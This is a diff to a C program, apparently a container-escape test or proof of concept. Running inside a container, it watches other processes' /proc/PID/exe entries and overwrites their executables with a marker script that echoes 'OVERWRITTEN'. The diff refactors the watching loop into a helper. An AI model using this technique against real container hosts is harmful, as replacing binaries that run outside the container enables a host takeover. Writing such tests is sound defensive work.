@@ -6,17 +6,14 @@
  *     overwrite watch       is the container's first process, and waits for programs of others in /proc/PID/exe
  *     overwrite FD          has one of them as descriptor FD
  */
-#include <dirent.h>
+#include "watch.h"
+
 #include <errno.h>
-#include <fcntl.h>
 #include <signal.h>
 #include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
 #include <sys/stat.h>
-#include <unistd.h>
 
-enum { AHEAD = 6, TRIES = 5000 };
+enum { TRIES = 5000 };
 
 static const char script[] = "#!/bin/sh\necho OVERWRITTEN\n";
 
@@ -54,35 +51,18 @@ static int is_own(int fd)
 	return 0;
 }
 
-/* The pid that was given last in this pid namespace. */
-static int last_pid(void)
+static void look(int pid)
 {
-	char text[128] = "";
-	int fd = open("/proc/loadavg", O_RDONLY);
+	char path[64];
+	int fd;
 
-	if (fd >= 0) {
-		if (read(fd, text, sizeof(text) - 1) < 0)
-			text[0] = '\0';
-		close(fd);
-	}
-	return strrchr(text, ' ') ? atoi(strrchr(text, ' ')) : 0;
-}
-
-/* The next processes that will be made, asked for before they are. */
-static void look(int last)
-{
-	for (int pid = last; pid < last + AHEAD; pid++) {
-		char path[64];
-		int fd;
-
-		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
-		fd = open(path, O_PATH);
-		if (fd < 0)
-			continue;
-		if (!is_own(fd) && fork() == 0)
-			_exit(overwrite(fd));
-		close(fd);
-	}
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	fd = open(path, O_PATH);
+	if (fd < 0)
+		return;
+	if (!is_own(fd) && fork() == 0)
+		_exit(overwrite(fd));
+	close(fd);
 }
 
 int main(int argc, char **argv)
@@ -93,10 +73,5 @@ int main(int argc, char **argv)
 		return overwrite(atoi(argv[1]));
 	signal(SIGCHLD, SIG_IGN);
 	dprintf(STDOUT_FILENO, "ready\n");
-	for (;;) {
-		int last = last_pid();
-
-		for (int i = 0; i < 16; i++)
-			look(last);
-	}
+	watch(look);
 }
